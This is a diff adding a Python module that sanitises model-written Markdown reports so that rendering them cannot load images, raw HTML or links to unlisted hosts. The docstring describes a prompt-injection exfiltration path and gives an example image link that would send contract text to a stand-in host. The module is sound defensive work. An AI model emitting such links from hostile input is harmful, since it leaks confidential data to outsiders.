@@ -1,0 +1,255 @@
+"""Model and server text → Markdown that cannot make the analyst's browser fetch anything.
+
+A report is written by a model that read a contract written by the other side, so it is hostile
+text: `![x](https://host/p.png?q=<contract text>)` in it would make the browser send that text to
+`host` the moment the report is drawn. Recognising the dangerous constructs in the source text is
+fragile (reference definitions, angle-bracket destinations, entities, autolink literals), so this
+module works the other way round: it parses the text with markdown-it-py and writes Markdown back
+from the parse tree, escaping every ASCII punctuation character of every piece of text. The output
+holds no Markdown syntax except the structure written here — headings, lists, quotes, tables, code,
+emphasis and links to the contract's own hosts — so whatever parser draws it (Streamlit's differs
+from markdown-it in details) finds no image, no raw HTML and no autolink in it:
+
+- an image becomes its alt text and "(image not loaded: `url`)";
+- a link to a host the contract does not name becomes its text and the URL in a code span;
+- raw HTML becomes the text of the tag;
+- a bare URL or e-mail address in text goes into a code span: Streamlit's GFM turns URLs it finds
+  in text nodes into links even when their dots and colons were escaped in the source.
+"""
+
+from __future__ import annotations
+
+import re
+import string
+from collections.abc import Iterable
+from functools import lru_cache
+from urllib.parse import urlsplit
+
+from markdown_it import MarkdownIt
+from markdown_it.tree import SyntaxTreeNode
+
+_ESCAPES = str.maketrans({ch: "\\" + ch for ch in string.punctuation})
+# A host name as written in running text: labels of letters, digits and hyphens, a letter TLD.
+_HOST = re.compile(
+    r"(?<![\w.@-])(?:[a-z][a-z0-9+.-]*://)?(?:[^\s/@:]+@)?((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+"
+    r"[a-z]{2,63})(?![\w-])",
+    re.IGNORECASE,
+)
+_BACKTICKS = re.compile(r"`+")
+# Wider than what GFM autolinks (scheme://, www., mailto:/xmpp:, e-mail addresses), on purpose.
+_URL_LIKE = re.compile(
+    r"(?:[a-z][a-z0-9+.-]*://|www\d{0,3}\.|(?:mailto|xmpp):)[^\s<>]*|[\w.+-]+@[\w-]+(?:\.[\w-]+)+",
+    re.IGNORECASE,
+)
+_TRAILING = ".,:;!?\"')]*_~"
+_ALIGN = {"text-align:left": ":---", "text-align:right": "---:", "text-align:center": ":---:"}
+_LINK_SCHEMES = frozenset({"http", "https"})
+# A code block's language is a class name for highlighting, never a place for outside text.
+_LANGUAGE = re.compile(r"[A-Za-z0-9_+#-]{1,24}")
+
+
+@lru_cache(maxsize=1)
+def _parser() -> MarkdownIt:
+    return MarkdownIt("commonmark").enable(["table", "strikethrough"])
+
+
+def hosts_in(text: str) -> frozenset[str]:
+    """Every host name the text mentions (URLs, e-mail domains, bare `example.com`), normalised.
+
+    Links to these stay links: the contract itself names them, so following one tells nobody
+    anything the contract did not.
+    """
+    return frozenset(_normal_host(match.group(1)) for match in _HOST.finditer(text))
+
+
+def _normal_host(host: str) -> str:
+    host = host.lower().rstrip(".")
+    return host.removeprefix("www.")
+
+
+def escape_markdown(text: str) -> str:
+    """Text to show as it is inside Markdown (a label, a file name): no syntax, one line."""
+    return _literal(" ".join(text.split()))
+
+
+def _literal(text: str, in_table: bool = False) -> str:
+    """Plain text that no Markdown parser reads as syntax, its URLs in code spans."""
+    parts: list[str] = []
+    position = 0
+    for match in _URL_LIKE.finditer(text):
+        url = match.group().rstrip(_TRAILING)
+        if not url:
+            continue
+        parts.append(text[position : match.start()].translate(_ESCAPES))
+        parts.append(_code_span(url.replace("|", "\\|") if in_table else url))
+        position = match.start() + len(url)
+    parts.append(text[position:].translate(_ESCAPES))
+    return "".join(parts)
+
+
+def safe_markdown(text: str, allowed_hosts: Iterable[str] = ()) -> str:
+    """Markdown with the structure of `text` and nothing that loads, runs or leaks.
+
+    `allowed_hosts` are the hosts links may point to (see `hosts_in`); every other link is shown
+    as text with its URL.
+    """
+    hosts = frozenset(_normal_host(h) for h in allowed_hosts)
+    tree = SyntaxTreeNode(_parser().parse(text))
+    return _Writer(hosts).blocks(tree.children).rstrip("\n") + "\n" if text.strip() else ""
+
+
+def _code_span(content: str) -> str:
+    fence = "`" * (max((len(run) for run in _BACKTICKS.findall(content)), default=0) + 1)
+    pad = " " if content.startswith(("`", " ")) or content.endswith(("`", " ")) else ""
+    return f"{fence}{pad}{content}{pad}{fence}"
+
+
+def _prefix(body: str, first: str, rest: str) -> str:
+    lines = body.split("\n") or [""]
+    out = [(first + lines[0]).rstrip()]
+    out += [(rest + line) if line.strip() else rest.rstrip() for line in lines[1:]]
+    return "\n".join(out)
+
+
+class _Writer:
+    def __init__(self, hosts: frozenset[str]) -> None:
+        self.hosts = hosts
+
+    # Blocks -------------------------------------------------------------------------------
+    def blocks(self, nodes: Iterable[SyntaxTreeNode], separator: str = "\n\n") -> str:
+        rendered = (self.block(node) for node in nodes)
+        return separator.join(part for part in rendered if part)
+
+    def block(self, node: SyntaxTreeNode) -> str:
+        kind = node.type
+        if kind == "paragraph":
+            return self.inline_of(node)
+        if kind == "heading":
+            level = int(node.tag[1:]) if node.tag[1:].isdigit() else 1
+            return "#" * level + " " + self.inline_of(node, one_line=True)
+        if kind == "blockquote":
+            return _prefix(self.blocks(node.children), "> ", "> ")
+        if kind in ("bullet_list", "ordered_list"):
+            return self.list_(node)
+        if kind in ("fence", "code_block"):
+            return self.fence(node)
+        if kind == "hr":
+            return "---"
+        if kind == "table":
+            return self.table(node)
+        if kind == "html_block":
+            lines = (line.strip() for line in node.content.split("\n"))
+            return "\n".join(_literal(line) for line in lines if line)
+        if node.children:
+            return self.blocks(node.children)
+        return escape_markdown(node.content)
+
+    def list_(self, node: SyntaxTreeNode) -> str:
+        tight = all(
+            grand.hidden
+            for item in node.children
+            for grand in item.children
+            if grand.type == "paragraph"
+        )
+        separator = "\n" if tight else "\n\n"
+        ordered = node.type == "ordered_list"
+        number = int(node.attrs.get("start", 1)) if ordered else 0
+        delimiter = node.markup if node.markup in (".", ")") else "."
+        bullet = node.markup if node.markup in ("-", "*", "+") else "-"
+        items = []
+        for offset, item in enumerate(node.children):
+            marker = f"{number + offset}{delimiter} " if ordered else f"{bullet} "
+            body = self.blocks(item.children, separator)
+            items.append(_prefix(body, marker, " " * len(marker)))
+        return separator.join(items)
+
+    def fence(self, node: SyntaxTreeNode) -> str:
+        content = node.content if node.content.endswith("\n") else node.content + "\n"
+        longest = max((len(run) for run in _BACKTICKS.findall(content)), default=0)
+        fence = "`" * max(3, longest + 1)
+        words = node.info.split()
+        language = words[0] if words and _LANGUAGE.fullmatch(words[0]) else ""
+        return f"{fence}{language}\n{content}{fence}"
+
+    def table(self, node: SyntaxTreeNode) -> str:
+        rows: list[list[SyntaxTreeNode]] = [
+            row.children for section in node.children for row in section.children
+        ]
+        if not rows:
+            return ""
+        lines = []
+        for index, cells in enumerate(rows):
+            texts = [self.inline_of(cell, one_line=True, in_table=True) for cell in cells]
+            lines.append("| " + " | ".join(texts) + " |")
+            if index == 0:
+                aligns = [_ALIGN.get(str(cell.attrs.get("style", "")), "---") for cell in cells]
+                lines.append("| " + " | ".join(aligns) + " |")
+        return "\n".join(lines)
+
+    # Inline -------------------------------------------------------------------------------
+    def inline_of(
+        self, node: SyntaxTreeNode, *, one_line: bool = False, in_table: bool = False
+    ) -> str:
+        parts = [
+            self.inline(child, one_line, in_table)
+            for inline in node.children
+            for child in inline.children
+        ]
+        return "".join(parts).strip()
+
+    def inlines(self, nodes: Iterable[SyntaxTreeNode], one_line: bool, in_table: bool) -> str:
+        return "".join(self.inline(node, one_line, in_table) for node in nodes)
+
+    def inline(self, node: SyntaxTreeNode, one_line: bool, in_table: bool) -> str:
+        kind = node.type
+        if kind == "text":
+            return _literal(node.content, in_table)
+        if kind == "softbreak":
+            return " " if one_line else "\n"
+        if kind == "hardbreak":
+            return " " if one_line else "\\\n"
+        if kind == "code_inline":
+            content = node.content.replace("|", "\\|") if in_table else node.content
+            return _code_span(content)
+        if kind in ("em", "strong", "s"):
+            mark = "~~" if kind == "s" else node.markup
+            return mark + self.inlines(node.children, one_line, in_table) + mark
+        if kind == "link":
+            return self.link(node, one_line, in_table)
+        if kind == "image":
+            alt = self.inlines(node.children, one_line, in_table)
+            shown = f"{alt} " if alt else ""
+            return f"{shown}(image not loaded: {self.url_text(node.attrs.get('src'), in_table)})"
+        if node.children:
+            return self.inlines(node.children, one_line, in_table)
+        return _literal(node.content, in_table)
+
+    def link(self, node: SyntaxTreeNode, one_line: bool, in_table: bool) -> str:
+        href = str(node.attrs.get("href", ""))
+        label = self.inlines(node.children, one_line, in_table)
+        if self.allowed(href):
+            destination = "".join(
+                f"%{ord(ch):02X}" if ch in "\\()<> |" or ord(ch) < 33 else ch for ch in href
+            )
+            return f"[{label}]({destination})"
+        plain = "".join(child.content for child in node.walk() if child.type == "text")
+        if plain in (href, href.removeprefix("mailto:")):
+            return self.url_text(href, in_table)
+        return f"{label} ({self.url_text(href, in_table)})"
+
+    def allowed(self, href: str) -> bool:
+        try:
+            parts = urlsplit(href)
+            host = parts.hostname
+        except ValueError:
+            return False
+        return (
+            parts.scheme.lower() in _LINK_SCHEMES
+            and host is not None
+            and _normal_host(host) in self.hosts
+        )
+
+    @staticmethod
+    def url_text(url: object, in_table: bool) -> str:
+        text = " ".join(str(url or "").split())
+        return _code_span(text.replace("|", "\\|") if in_table else text)
